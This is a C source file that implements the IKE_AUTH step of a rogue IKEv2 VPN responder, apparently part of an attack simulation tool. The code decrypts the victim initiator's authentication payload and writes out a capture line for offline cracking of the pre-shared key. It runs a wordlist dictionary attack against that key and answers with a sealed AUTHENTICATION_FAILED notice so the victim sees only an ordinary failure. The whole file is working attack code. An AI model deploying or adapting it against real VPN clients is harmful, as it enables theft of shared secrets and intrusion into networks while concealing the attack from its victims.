/*
 * The rogue responder's IKE_AUTH: it decrypts the initiator's request with the keys it shares with it, takes
 * IDi and AUTH, writes the capture line an offline attack needs (host/v2psk.h) into an `attack.capture` event,
 * tries its word list when it has one (`attack.crack`), and answers AUTHENTICATION_FAILED, sealed, as a gateway
 * whose PSK did not match would: the victim sees an ordinary authentication failure.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <openssl/crypto.h>

#include "attack_rogue.h"
#include "crypto/registry.h"
#include "crypto/sk.h"
#include "host/v2psk.h"

#define WORD_MAX 1024

/* Keys of one direction: the initiator's (SK_ei, SK_ai) or ours (SK_er, SK_ar). */
static void sk_keys(const rogue_sess *s, bool initiator, ike_sk_keys *k)
{
	size_t ai = s->prf_len, ar = ai + s->integ_len, ei = ar + s->integ_len, er = ei + s->encr_len;
	k->encr = ike_alg_find(IKE_TT_ENCR, s->algs.encr, s->algs.encr_keylen);
	k->integ = s->algs.integ ? ike_alg_find(IKE_TT_INTEG, s->algs.integ, 0) : NULL;
	k->ekey = s->keys + (initiator ? ei : er);
	k->akey = s->keys + (initiator ? ai : ar);
}

static const uint8_t *sk_pi(const rogue_sess *s) { return s->keys + s->prf_len + 2 * s->integ_len + 2 * s->encr_len; }

/* The word list, line by line (LF or CRLF, empty lines skipped): the PSK's line number, 0 if none, -1 on error. */
static long crack(sim_atk *a, const ike_v2psk *t, uint64_t *tried, size_t *psk_at, size_t *psk_len)
{
	const uint8_t *w = a->spec->words, *end = w + a->spec->words_len;
	uint8_t maced[IKE_PRF_MAX_OUT];
	long line = 0, hit = 0;
	*tried = 0;
	if (ike_host_v2psk_prepare(a->r->crypto, t, maced))
		return -1;
	while (w < end && !hit) {
		const uint8_t *nl = memchr(w, '\n', (size_t)(end - w));
		size_t n = (size_t)((nl ? nl : end) - w);
		line++;
		if (n && w[n - 1] == '\r')
			n--;
		if (n && n <= WORD_MAX) {
			(*tried)++;
			int r = ike_host_v2psk_try(a->r->crypto, t, maced, w, n);
			if (r < 0)
				return -1;
			if (r)
				hit = line, *psk_at = (size_t)(w - a->spec->words), *psk_len = n;
		}
		w = nl ? nl + 1 : end;
	}
	OPENSSL_cleanse(maced, sizeof(maced));
	return hit;
}

static void json_word(const uint8_t *p, size_t n, char *out, size_t cap)
{
	size_t k = 0;
	for (size_t i = 0; i < n && k + 7 < cap; i++)
		k += (size_t)(p[i] >= 0x20 && p[i] < 0x7f && p[i] != '"' && p[i] != '\\'
				      ? snprintf(out + k, cap - k, "%c", p[i])
				      : snprintf(out + k, cap - k, "\\u%04x", p[i]));
	out[k] = 0;
}

static void try_words(sim_atk *a, int64_t now, const ike_v2psk *t)
{
	uint64_t tried = 0;
	size_t at = 0, n = 0;
	long line = crack(a, t, &tried, &at, &n);
	char f[1400], word[1100] = "";
	if (line > 0)
		json_word(a->spec->words + at, n, word, sizeof(word));
	if (line < 0)
		snprintf(f, sizeof(f), "\"why\":\"error\",\"wordlist\":\"%s\"", a->spec->wordlist);
	else if (line)
		snprintf(f, sizeof(f), "\"why\":\"found\",\"psk\":\"%s\",\"line\":%ld,\"words\":%llu,\"wordlist\":\"%s\"", word,
			 line, (unsigned long long)tried, a->spec->wordlist);
	else
		snprintf(f, sizeof(f), "\"why\":\"not found\",\"words\":%llu,\"wordlist\":\"%s\"", (unsigned long long)tried,
			 a->spec->wordlist);
	sim_atk_event(a, now, "attack.crack", f);
	OPENSSL_cleanse(word, sizeof(word));
}

static void capture(sim_atk *a, int64_t now, const rogue_sess *s, const v2_payload *idi, const v2_auth *auth)
{
	ike_v2psk t = { s->algs.prf, s->msg1, s->nr, sk_pi(s), idi->body, auth->data, s->msg1_len, sizeof(s->nr),
			s->prf_len, idi->len, auth->len };
	bool psk = auth->method == V2_AUTH_SHARED_KEY_MIC && auth->len == ike_prf_out_len(s->algs.prf);
	size_t cap = ike_host_v2psk_line_len(&t) + 512;
	char *f = malloc(cap), fa[64], id[200];
	if (!f)
		return;
	sim_atk_addr(&s->peer, fa, sizeof(fa));
	v2_id v;
	id[0] = 0;
	if (v2_parse_id(idi->body, idi->len, &v) == V2_OK && (v.type == V2_ID_FQDN || v.type == V2_ID_RFC822_ADDR))
		json_word(v.data, v.len, id, sizeof(id));
	int k = snprintf(f, cap, "\"from\":\"%s\",\"initiator-spi\":\"%016llx\",\"id\":\"%s\",\"auth-method\":%u,\"prf\":\"%s\",", fa,
			 (unsigned long long)s->spi_i, id, auth->method, ike_transform_name(IKE_TT_PRF, s->algs.prf, 0));
	if (psk) {
		k += snprintf(f + k, cap - (size_t)k, "\"why\":\"PSK: AUTH = prf(prf(PSK, \\\"Key Pad for IKEv2\\\"), msg1 | Nr | prf(SK_pi, IDi)) can be guessed offline\",\"crack\":\"");
		ike_host_v2psk_line(&t, f + k, cap - (size_t)k);
		k += (int)strlen(f + k);
		snprintf(f + k, cap - (size_t)k, "\"");
	} else
		snprintf(f + k, cap - (size_t)k, "\"why\":\"not a PSK (auth method %u): nothing to guess offline\"", auth->method);
	sim_atk_event(a, now, "attack.capture", f);
	free(f);
	if (psk && a->spec->words)
		try_words(a, now, &t);
}

/* IKE_AUTH response { N(AUTHENTICATION_FAILED) } sealed with our keys; kept for retransmissions. */
static void answer_failed(sim_atk *a, rogue_sess *s)
{
	uint8_t pt[16], buf[512];
	v2_builder in, b;
	v2_begin_chain(&in, pt, sizeof(pt));
	v2_add_notify(&in, 0, NULL, 0, V2_N_AUTHENTICATION_FAILED, NULL, 0);
	size_t ptlen = v2_finish(&in, 0), body = 0;
	ike_sk_keys k;
	sk_keys(s, false, &k);
	v2_header h = { .spi_i = s->spi_i, .spi_r = s->spi_r, .major = 2, .exchange = V2_IKE_AUTH, .flags = V2_F_RESPONSE,
			.msg_id = 1 };
	v2_begin(&b, buf, sizeof(buf), &h);
	size_t want = ike_sk_body_len(&k, ptlen), aad = v2_add_sk_header(&b, V2_PL_NOTIFY, want);
	size_t len = aad ? v2_finish(&b, want) : 0; /* the lengths are part of what the ICV covers: set them first */
	if (!len || ike_sk_seal(a->r->crypto, &k, &a->rng, buf, aad, pt, ptlen, sizeof(buf), &body) || body != want ||
	    !(s->auth_resp = malloc(len)))
		return;
	memcpy(s->auth_resp, buf, len);
	s->auth_resp_len = len;
}

void rogue_auth(sim_atk *a, int64_t now, rogue_sess *s, const v2_header *h, const uint8_t *d)
{
	if (s->auth_resp) {
		rogue_send(a, &s->local, &s->peer, s->auth_resp, s->auth_resp_len);
		return;
	}
	v2_chain c, inner;
	uint8_t bad, pt[8192];
	size_t ptlen = 0;
	ike_sk_keys k;
	sk_keys(s, true, &k);
	if (v2_parse_chain(h->next_payload, d + V2_HDR_LEN, h->length - V2_HDR_LEN, V2_HDR_LEN, &c, &bad) != V2_OK || !c.n ||
	    c.pl[c.n - 1].type != V2_PL_SK)
		return; /* fragmented (SKF) or malformed: a PSK initiator's IKE_AUTH is small and whole */
	const v2_payload *sk = &c.pl[c.n - 1];
	if (ike_sk_open(a->r->crypto, &k, d, (size_t)sk->offset + V2_GENERIC_HDR_LEN, sk->len, pt, sizeof(pt), &ptlen) ||
	    v2_parse_chain(c.sk_inner_first, pt, ptlen, 0, &inner, &bad) != V2_OK) {
		OPENSSL_cleanse(pt, sizeof(pt));
		return;
	}
	const v2_payload *idi = v2_chain_find(&inner, V2_PL_IDI), *pa = v2_chain_find(&inner, V2_PL_AUTH);
	v2_auth auth;
	if (idi && pa && v2_parse_auth(pa->body, pa->len, &auth) == V2_OK)
		capture(a, now, s, idi, &auth);
	OPENSSL_cleanse(pt, sizeof(pt));
	answer_failed(a, s);
	if (s->auth_resp)
		rogue_send(a, &s->local, &s->peer, s->auth_resp, s->auth_resp_len);
}
